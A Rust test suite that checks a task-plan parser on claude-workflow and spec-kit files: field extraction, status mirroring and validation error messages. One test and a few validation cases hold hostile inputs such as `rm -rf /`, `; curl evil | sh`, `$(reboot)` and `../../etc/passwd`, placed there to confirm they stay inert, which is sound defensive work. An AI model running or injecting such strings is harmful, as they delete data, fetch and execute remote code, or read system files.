//! The real plan files of the tools `wf` reads, and the fixture plans, parsed end to
//! end: every field of both formats and the exact text of every validation error.

use std::path::Path;

use super::test_support::{assert_speckit_order, fixture, read, Reach};
use super::{audit::audit, classify, diff::diff, mirror::mirror, parse, Format, Plan};
use crate::state::machine::TaskStatus;
use crate::state::model::Task;

fn parse_fixture(rel: &str) -> Plan {
    let p = fixture(rel);
    parse(Path::new(rel), &read(&p)).unwrap_or_else(|e| panic!("{rel}: {e}"))
}

fn error_of(rel: &str) -> String {
    let p = fixture(rel);
    let err = parse(Path::new(rel), &read(&p)).expect_err(rel);
    assert_eq!(err.kind, crate::error::ErrorKind::Usage);
    assert!(!err.message.contains('\n'), "{}", err.message);
    err.message
}

fn task<'a>(plan: &'a Plan, id: &str) -> &'a Task {
    plan.tasks
        .iter()
        .find(|t| t.id == id)
        .unwrap_or_else(|| panic!("no task {id}"))
}

fn ids(plan: &Plan) -> Vec<&str> {
    plan.tasks.iter().map(|t| t.id.as_str()).collect()
}

fn strings(v: &[&str]) -> Vec<String> {
    v.iter().map(std::string::ToString::to_string).collect()
}

fn check_team_board(plan: &Plan) {
    assert_eq!(plan.format, Format::CLAUDE_WORKFLOW);
    assert_eq!(plan.title.as_deref(), Some("Team Task Board"));
    assert_eq!(ids(plan), vec!["T1", "T2", "T3"]);
    let phases: Vec<&str> = plan.tasks.iter().map(|t| t.phase.as_str()).collect();
    assert_eq!(phases, vec!["planning", "implement", "review"]);
    let t1 = task(plan, "T1");
    assert_eq!(t1.name, "Team planning");
    assert_eq!(t1.line, 46);
    assert_eq!(t1.design_refs, strings(&["§1", "§2", "§5", "P1"]));
    assert_eq!(
        t1.acceptance.as_deref(),
        Some("生成 team spec / plan / task board")
    );
    assert_eq!(
        t1.actions,
        strings(&["生成规划工件", "拆分 team 边界", "记录治理约束"])
    );
    assert!(!t1.quality_gate);
    assert_eq!(t1.threshold, None);
    assert_eq!(t1.status, TaskStatus::Pending);
    assert!(t1.deps.is_empty());
    assert_eq!(t1.extra["需求 ID"], "R1");
    assert_eq!(
        t1.extra["关键约束"],
        "只允许显式 /team 触发, 不自动升级 /workflow"
    );
    assert_eq!(t1.steps.len(), 2);
    let s = &t1.steps[0];
    assert_eq!(s.id, "A1");
    assert_eq!(s.action, "生成 team 规划工件");
    assert_eq!(s.output.as_deref(), Some("输出 spec/plan"));
    assert_eq!(s.check.as_deref(), Some("工件存在"));
    assert_eq!(s.check_cmd, None);
    let t3 = task(plan, "T3");
    assert!(t3.quality_gate);
    assert_eq!(t3.threshold, Some(80));
    assert_eq!(t3.actions, strings(&["quality_review", "更新汇总状态"]));
    assert_eq!(t3.steps.len(), 2);
    assert_eq!(t3.steps[1].check.as_deref(), Some("fix_loop 更新"));
    // The checklist and the verification table after `---` are neither tasks nor fields.
    assert_eq!(t3.extra.len(), 2);
    assert!(t3.requirement.is_none());
    for t in &plan.tasks {
        assert_eq!(t.digest.len(), 32);
        assert!(t.blocked_by.is_empty());
    }
}

#[test]
fn real_team_board() {
    check_team_board(&parse_fixture("formats/claude-workflow/team.team-tasks.md"));
}

fn check_speckit_template(plan: &Plan) {
    assert_eq!(plan.format, Format::SPEC_KIT);
    assert_eq!(plan.title.as_deref(), Some("[FEATURE NAME]"));
    let expected: Vec<String> = (1..=28).map(|i| format!("T{i:03}")).collect();
    assert_eq!(ids(plan), expected);
    let phase_of = |id: &str| task(plan, id).phase.clone();
    assert_eq!(phase_of("T001"), "Phase 1: Setup (Shared Infrastructure)");
    assert_eq!(
        phase_of("T009"),
        "Phase 2: Foundational (Blocking Prerequisites)"
    );
    assert_eq!(
        phase_of("T010"),
        "Phase 3: User Story 1 - [Title] (Priority: P1) 🎯 MVP"
    );
    assert_eq!(phase_of("T017"), phase_of("T010"));
    assert_eq!(
        phase_of("T018"),
        "Phase 4: User Story 2 - [Title] (Priority: P2)"
    );
    assert_eq!(
        phase_of("T028"),
        "Phase 5: User Story 3 - [Title] (Priority: P3)"
    );
    let t003 = task(plan, "T003");
    assert!(t003.parallel);
    assert_eq!(t003.story, None);
    assert_eq!(t003.name, "Configure linting and formatting tools");
    let t010 = task(plan, "T010");
    assert!(t010.parallel);
    assert_eq!(t010.story.as_deref(), Some("US1"));
    assert_eq!(
        t010.name,
        "Contract test for [endpoint] in tests/contract/test_[name].py"
    );
    assert_eq!(t010.file.as_deref(), Some("tests/contract/test_[name].py"));
    let t014 = task(plan, "T014");
    assert!(!t014.parallel);
    assert_eq!(
        t014.name,
        "Implement [Service] in src/services/[service].py"
    );
    assert_eq!(t014.file.as_deref(), Some("src/services/[service].py"));
    assert_eq!(t014.deps[..2], strings(&["T012", "T013"]));
    assert!(t014.deps.contains(&"T010".to_string()));
    assert_eq!(task(plan, "T001").file, None);
    assert_eq!(task(plan, "T005").file, None);
    // Phase order: phase 1 ends with T002 (unmarked) and T003 [P].
    assert_eq!(task(plan, "T004").deps, strings(&["T002", "T003"]));
    assert!(task(plan, "T001").deps.is_empty());
    assert_eq!(task(plan, "T002").deps, strings(&["T001"]));
    assert_eq!(task(plan, "T003").deps, strings(&["T002"]));
    assert!(plan.tasks.iter().all(|t| t.status == TaskStatus::Pending));
    let sections: Vec<usize> = plan
        .tasks
        .iter()
        .map(|t| t.phase.as_bytes().get(6).copied().unwrap_or(0) as usize)
        .collect();
    assert_speckit_order(&plan.tasks, &sections);
}

#[test]
fn real_speckit_template() {
    check_speckit_template(&parse_fixture("formats/spec-kit/tasks-template.md"));
}

#[test]
fn real_claude_template_has_no_tasks() {
    assert_eq!(
        error_of("formats/claude-workflow/tasks-template.md"),
        "formats/claude-workflow/tasks-template.md:1: the claude-workflow plan has no tasks (this looks like an unfilled template: `{{…}}` placeholders are not tasks); add tasks as `## T1: name` headings"
    );
}

#[test]
fn speckit_command_doc_is_a_plan_with_no_real_tasks() {
    // The command doc only shows task lines inside code fences and as examples with
    // `✅ CORRECT:` prefixes; none of its lines is a task.
    let msg = error_of("formats/spec-kit/tasks-command.md");
    assert!(
        msg.starts_with("formats/spec-kit/tasks-command.md:1: "),
        "{msg}"
    );
}

#[test]
fn claude_every_field() {
    let plan = parse_fixture("plans/claude-full.md");
    assert_eq!(plan.title.as_deref(), Some("用户中心"));
    assert_eq!(ids(&plan), vec!["T1", "T2", "T3", "T4", "T5"]);

    let t1 = task(&plan, "T1");
    assert_eq!(t1.name, "项目骨架");
    assert_eq!(t1.line, 19);
    assert_eq!(t1.status, TaskStatus::Completed);
    assert_eq!(t1.phase, "setup");
    assert_eq!(t1.file.as_deref(), Some("src/app.ts"));
    assert_eq!(
        t1.creates,
        strings(&["src/app.ts", "src/main.ts", "package.json"])
    );
    assert_eq!(t1.reuse.as_deref(), Some("templates/base"));
    assert_eq!(t1.design_refs, strings(&["4.1", "tech-design.md § 4.1"]));
    assert_eq!(
        t1.requirement.as_deref(),
        Some("初始化项目结构，\n包含构建脚本与目录约定")
    );
    assert_eq!(t1.acceptance.as_deref(), Some("`npm run build` 通过"));
    assert_eq!(t1.actions, strings(&["create_file", "run_tests"]));

    let t2 = task(&plan, "T2");
    assert_eq!(t2.name, "用户服务层 API");
    assert_eq!(t2.status, TaskStatus::Pending);
    assert_eq!(t2.modifies, strings(&["src/app.ts"]));
    assert_eq!(
        t2.tests,
        strings(&["tests/user.test.ts", "tests/user.e2e.ts"])
    );
    assert_eq!(t2.deps, strings(&["T1"]));
    assert_eq!(t2.blocked_by, strings(&["api_spec"]));
    assert_eq!(t2.verify, strings(&["npm test -- user", "npm run lint"]));
    assert_eq!(t2.expect.as_deref(), Some("全部通过"));
    assert_eq!(t2.timeout_secs, Some(600));
    assert_eq!(t2.capabilities, strings(&["code", "test"]));
    assert_eq!(t2.extra["需求 ID"], "R2");
    assert_eq!(t2.design_refs, strings(&["5.2"]));

    let t3 = task(&plan, "T3");
    assert_eq!(t3.name, "用户列表页面");
    // In progress is not carried over by an import.
    assert_eq!(t3.status, TaskStatus::Pending);
    assert_eq!(t3.design_refs, strings(&["§3", "§4", "P3"]));
    assert_eq!(t3.deps, strings(&["T1", "T2"]));
    assert_eq!(t3.blocked_by, strings(&["design_spec", "api_spec"]));
    assert_eq!(
        t3.verify,
        strings(&["npm run test:unit -- UserList", "npx vue-tsc --noEmit"])
    );
    assert_eq!(t3.steps.len(), 3);
    assert_eq!(
        t3.steps[0].check_cmd.as_deref(),
        Some("test -f src/pages/UserList.vue")
    );
    assert_eq!(t3.steps[0].output.as_deref(), Some("输出 UserList.vue"));
    assert_eq!(t3.steps[1].action, "接入服务");
    assert_eq!(t3.steps[1].output.as_deref(), Some("列表数据"));
    assert_eq!(t3.steps[1].check.as_deref(), Some("页面能展示数据"));
    assert_eq!(t3.steps[1].check_cmd, None);
    assert_eq!(t3.steps[2].action, "自查样式");
    assert_eq!(t3.steps[2].check, None);
    assert_eq!(t3.extra["关键约束"], "不引入新的 UI 库");
    let cmds: Vec<&str> = t3.check_commands().collect();
    assert_eq!(cmds.len(), 3);

    let t4 = task(&plan, "T4");
    assert_eq!(t4.status, TaskStatus::Skipped);
    assert!(t4.quality_gate);
    assert_eq!(t4.threshold, Some(80));
    assert_eq!(t4.deps, strings(&["T2", "T3"]));

    let t5 = task(&plan, "T5");
    assert_eq!(t5.name, "提交");
    assert_eq!(t5.status, TaskStatus::Pending);
    assert_eq!(t5.phase, "review");
    assert_eq!(t5.requirement.as_deref(), Some("Commit the work"));
    assert_eq!(t5.acceptance.as_deref(), Some("clean tree"));
    assert_eq!(t5.deps, strings(&["T4"]));
    assert!(t5.quality_gate);
    assert_eq!(t5.threshold, Some(90));
    assert_eq!(t5.verify, strings(&["git diff --quiet"]));
    assert_eq!(t5.expect.as_deref(), Some("exit 0"));
    assert_eq!(t5.timeout_secs, Some(120));
    // Nothing after the `---` rule leaked into T5.
    assert!(t5.extra.is_empty());

    let rules = classify::Rules::builtin();
    assert!(classify::classify(t1, &rules).is_empty());
    assert_eq!(classify::classify(t2, &rules), strings(&["api_spec"]));
    assert_eq!(classify::classify(t3, &rules), strings(&["design_spec"]));

    let text = read(&fixture("plans/claude-full.md"));
    let a = audit(&plan.tasks, &text, "t");
    assert!(a.passed, "{:?}", a.anti_patterns);
    let amb: Vec<(u64, &str)> = a
        .remaining_ambiguities
        .iter()
        .filter_map(|v| Some((v["line"].as_u64()?, v["pattern"].as_str()?)))
        .collect();
    assert_eq!(amb, vec![(14, "待定")]);
}

#[test]
fn speckit_every_field() {
    let plan = parse_fixture("plans/speckit-full.md");
    assert_eq!(plan.title.as_deref(), Some("Demo Feature"));
    let expected: Vec<String> = (1..=10).map(|i| format!("T{i:03}")).collect();
    assert_eq!(ids(&plan), expected);
    let st = |id: &str| task(&plan, id).status;
    assert_eq!(st("T001"), TaskStatus::Completed);
    assert_eq!(st("T002"), TaskStatus::Completed);
    assert_eq!(st("T003"), TaskStatus::Skipped);
    assert_eq!(st("T004"), TaskStatus::Pending);
    assert_eq!(st("T006"), TaskStatus::Skipped);
    assert_eq!(st("T010"), TaskStatus::Skipped);
    assert_eq!(task(&plan, "T003").name, "Configure formatting");
    assert_eq!(
        task(&plan, "T006").name,
        "Setup API routing in src/api/routes.py"
    );
    assert_eq!(task(&plan, "T001").file.as_deref(), Some("src/"));
    assert_eq!(task(&plan, "T002").file.as_deref(), Some(".eslintrc.json"));
    assert_eq!(
        task(&plan, "T005").requirement.as_deref(),
        Some("Use the session store from T004.")
    );
    let t009 = task(&plan, "T009");
    assert_eq!(
        t009.name,
        "Implement UserService in src/services/user_service.py"
    );
    assert_eq!(t009.deps, strings(&["T007", "T008"]));
    assert_eq!(t009.story.as_deref(), Some("US1"));
    assert_eq!(t009.line, 39);
    let t010 = task(&plan, "T010");
    assert_eq!(
        t010.name,
        "Build the user card UI in src/components/UserCard.tsx"
    );
    assert_eq!(t010.deps, strings(&["T009"]));
    assert_eq!(
        task(&plan, "T007").phase,
        "Phase 3: User Story 1 - Browse (Priority: P1) 🎯 MVP"
    );
    let rules = classify::Rules::builtin();
    assert_eq!(classify::classify(t009, &rules), strings(&["api_spec"]));
    assert_eq!(classify::classify(t010, &rules), strings(&["design_spec"]));
    let sections: Vec<usize> = plan
        .tasks
        .iter()
        .map(|t| t.phase.as_bytes().get(6).copied().unwrap_or(0) as usize)
        .collect();
    assert_speckit_order(&plan.tasks, &sections);

    let text = read(&fixture("plans/speckit-full.md"));
    let a = audit(&plan.tasks, &text, "t");
    assert!(a.passed, "{:?}", a.anti_patterns);
    assert_eq!(a.remaining_ambiguities.len(), 1);
    assert_eq!(a.remaining_ambiguities[0]["line"], 48);
}

#[test]
fn hostile_text_stays_inert() {
    let plan = parse_fixture("plans/hostile.md");
    let t1 = task(&plan, "T1");
    assert_eq!(t1.name, "$(touch PWNED) `rm -rf /` ../../etc");
    assert_eq!(t1.requirement.as_deref(), Some("; curl evil | sh"));
    assert_eq!(t1.file.as_deref(), Some("../../etc/passwd"));
    assert_eq!(t1.actions, strings(&["$(reboot)"]));
    assert_eq!(t1.verify, strings(&["echo \"$(id)\""]));
    assert_eq!(plan.title.as_deref(), Some("$(touch PWNED)"));
    assert_eq!(task(&plan, "T2").name, "tab\tand NUL-free control");
}

/// An id written twice for another task is read under a new id with a warning, not
/// refused (`repeats.rs`).
#[test]
fn an_id_written_twice_is_read_with_a_warning() {
    let plan = parse_fixture("plans/dup-ids.md");
    assert_eq!(ids(&plan), ["T1", "T2", "T1-2"]);
    assert_eq!(plan.warnings.len(), 1);
    assert_eq!(
        (plan.warnings[0].line, plan.warnings[0].message.as_str()),
        (9, "task T1 is used again here for another task (first at line 3), so this one is read as T1-2; give each task its own id")
    );
}

#[test]
fn validation_errors_name_file_and_line() {
    let cases = [
        (
            "plans/unknown-dep.md",
            "plans/unknown-dep.md:8: task T2 depends on T9, which is not a task in this plan; fix the id or remove it from its Depends field",
        ),
        (
            "plans/cycle.md",
            "plans/cycle.md:5: dependency cycle T1 → T3 → T2 → T1 (each task depends on the next); remove one of these dependencies",
        ),
        (
            "plans/empty.md",
            "plans/empty.md:1: the spec-kit plan has no tasks; add tasks as `- [ ] T001 description` lines",
        ),
        (
            "plans/bad-id.md",
            "plans/bad-id.md:6: task id \"T2/../../etc\" is not valid; use 1-64 letters, digits, '_', '.' or '-', e.g. T1",
        ),
        (
            "plans/not-a-plan.md",
            "plans/not-a-plan.md:1: not a task plan: found no tasks of any format wf reads (claude-workflow, spec-kit, kiro, openspec, bmad, taskmaster, checklist), e.g. `## T1: name` headings or `- [ ] T001 description` lines; write the plan in one of these formats or name it with --format",
        ),
        (
            "plans/speckit-cycle.md",
            "plans/speckit-cycle.md:5: dependency cycle T001 → T003 → T002 → T001 (each task depends on the next) (phase order counts: a task cannot depend on a task of a later phase or a later unmarked task of its phase); remove one of these dependencies",
        ),
        (
            "plans/speckit-unknown-dep.md",
            "plans/speckit-unknown-dep.md:6: task T002 depends on T404, which is not a task in this plan; fix the id or remove it from its (depends on …)",
        ),
        (
            "plans/speckit-bad-id.md",
            "plans/speckit-bad-id.md:6: task id \"T1$(touch\" is not valid; use 1-64 letters, digits, '_', '.' or '-', e.g. T1",
        ),
    ];
    for (rel, want) in cases {
        assert_eq!(error_of(rel), want);
    }
}

#[test]
fn field_value_errors() {
    let err = |text: &str| parse(Path::new("p.md"), text).unwrap_err().message;
    assert_eq!(
        err("## T1: a\n- **状态**: maybe\n"),
        "p.md:2: task T1: 状态 is \"maybe\", not a status; use pending, in_progress, completed, skipped or failed"
    );
    assert_eq!(
        err("## T1: a\n- **阈值**: high\n"),
        "p.md:2: task T1: 阈值 is \"high\", not a number from 0 to 100; write e.g. 80"
    );
    assert_eq!(
        err("## T1: a\n- **质量关卡**: sometimes\n"),
        "p.md:2: task T1: 质量关卡 is \"sometimes\", not a yes/no value; write true or false"
    );
    assert_eq!(
        err("## T1: a\n\n- **依赖**: T0 `$(x)`\n"),
        "p.md:3: task T1 lists \"$(x)\" as a dependency, which is not a task id; write task ids such as `T1, T2` (or none)"
    );
    assert_eq!(
        err("## T1: a\n- **阻塞依赖**: API-Spec\n"),
        "p.md:2: task T1 lists \"api-spec\" as a blocker, which is not a blocker kind; use api_spec, design_spec or a kind from wf.blockers (lowercase letters, digits, _)"
    );
    assert_eq!(
        err("## T1: ✅\n"),
        "p.md:1: task T1 has no name; write it after the colon, e.g. `## T1: Add the login form`"
    );
    assert_eq!(
        err("## T1: a\n<!-- id: T2 -->\n"),
        "p.md:2: the id comment says \"T2\" but the heading says T1; make them the same"
    );
    assert_eq!(
        err("## T1: a\n- **依赖**: T1\n"),
        "p.md:2: dependency cycle T1 → T1 (each task depends on the next); remove one of these dependencies"
    );
    assert_eq!(
        err("- [ ] T1 (depends on T0)\n"),
        "p.md:1: task T1 has no description; write what to do after the id, e.g. `- [ ] T1 Create src/models/user.py`"
    );
    let long = format!("## T{}: a\n", "1".repeat(80));
    assert!(err(&long).contains("…\" is not valid") || err(&long).contains("is not valid"));
}

#[test]
fn mirror_round_trip_on_real_files() {
    for (rel, format) in [
        (
            "formats/claude-workflow/team.team-tasks.md",
            Format::CLAUDE_WORKFLOW,
        ),
        ("plans/claude-full.md", Format::CLAUDE_WORKFLOW),
        ("formats/spec-kit/tasks-template.md", Format::SPEC_KIT),
        ("plans/speckit-full.md", Format::SPEC_KIT),
        ("plans/p-claude-heading-forms.md", Format::CLAUDE_WORKFLOW),
        ("plans/p-claude-files-field.md", Format::CLAUDE_WORKFLOW),
        ("plans/p-speckit-boxes.md", Format::SPEC_KIT),
        ("plans/p-speckit-bold-ids.md", Format::SPEC_KIT),
        ("plans/p-speckit-status-marks.md", Format::SPEC_KIT),
        ("plans/p-speckit-tags.md", Format::SPEC_KIT),
        ("plans/p-speckit-continuation.md", Format::SPEC_KIT),
        ("plans/p-speckit-depends-prose.md", Format::SPEC_KIT),
        ("plans/p-speckit-dependency-section.md", Format::SPEC_KIT),
    ] {
        let text = read(&fixture(rel));
        let plan = parse(Path::new(rel), &text).unwrap();
        assert_eq!(plan.format, format);
        // Statuses as imported: nothing to write ([-]/[~] boxes, status marks, bold
        // ids stay). (The older fixtures hold in-progress statuses an import resets.)
        if rel.starts_with("plans/p-") {
            assert_eq!(mirror(format, &text, &plan.tasks), text, "{rel}");
        }
        let cycle = [
            TaskStatus::Completed,
            TaskStatus::Skipped,
            TaskStatus::Pending,
            TaskStatus::InProgress,
            TaskStatus::Failed,
        ];
        let mut changed = plan.tasks.clone();
        for (i, t) in changed.iter_mut().enumerate() {
            t.status = cycle[(i + 1) % cycle.len()];
        }
        let out = mirror(format, &text, &changed);
        let again = parse(Path::new(rel), &out).unwrap();
        let want: Vec<TaskStatus> = changed
            .iter()
            .map(|t| super::status::imported(t.status))
            .collect();
        // A `[~]` box kept for a task in progress reads as in progress, which an
        // import takes as pending.
        let got: Vec<TaskStatus> = again
            .tasks
            .iter()
            .map(|t| super::status::imported(t.status))
            .collect();
        assert_eq!(got, want, "{rel}");
        // Same tasks, same content: only status spots changed.
        let d = diff(&plan.tasks, &again.tasks);
        assert_eq!(d.unchanged.len(), plan.tasks.len(), "{rel}: {d:?}");
        let status_lines = status_lines(&plan.tasks, &text);
        let (old_lines, new_lines): (Vec<&str>, Vec<&str>) =
            (text.split('\n').collect(), out.split('\n').collect());
        assert_eq!(old_lines.len(), new_lines.len());
        for (i, (a, b)) in old_lines.iter().zip(&new_lines).enumerate() {
            if a != b {
                assert!(
                    status_lines.contains(&(i + 1)),
                    "{rel}:{}: {a:?} → {b:?}",
                    i + 1
                );
            }
        }
        // Mirroring is idempotent.
        assert_eq!(mirror(format, &out, &changed), out, "{rel}");
    }
}

/// Lines that may legitimately change: task lines, `状态` field lines and field
/// lines with a box (`- [x] **Description**:`).
fn status_lines(tasks: &[Task], text: &str) -> Vec<usize> {
    let mut out: Vec<usize> = tasks.iter().map(|t| t.line).collect();
    for (i, l) in text.split('\n').enumerate() {
        let boxed_field = l
            .trim_start()
            .strip_prefix("- [")
            .and_then(|r| r.char_indices().nth(1))
            .is_some_and(|(at, c)| {
                c == ']'
                    && l.trim_start()
                        .get(4 + at..)
                        .is_some_and(|r| r.trim_start().starts_with("**"))
            });
        if l.contains("**状态**") || l.contains("**status**") || boxed_field {
            out.push(i + 1);
        }
    }
    out
}

#[test]
fn reach_helper_sees_transitive_deps() {
    let plan = parse_fixture("plans/claude-full.md");
    let r = Reach::new(&plan.tasks);
    let anc = r.ancestors("T5");
    for id in ["T1", "T2", "T3", "T4"] {
        assert!(anc.contains(id));
    }
}

/// Every plan under fixtures/ (the real ones, the bad ones and the patterns found in
/// public plans) reads the same through an import's two passes as through one parse.
#[test]
fn every_fixture_plan_reads_the_same_in_two_passes() {
    let mut plans = Vec::new();
    let mut dirs = vec![fixture("")];
    while let Some(dir) = dirs.pop() {
        for entry in std::fs::read_dir(&dir).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                dirs.push(path);
            } else if path.extension().is_some_and(|e| e == "md") {
                plans.push(path);
            }
        }
    }
    assert!(plans.len() > 40, "{} plans", plans.len());
    for path in plans {
        if let Ok(text) = std::fs::read_to_string(&path) {
            super::test_support::assert_outline_agrees(&text);
        }
    }
}
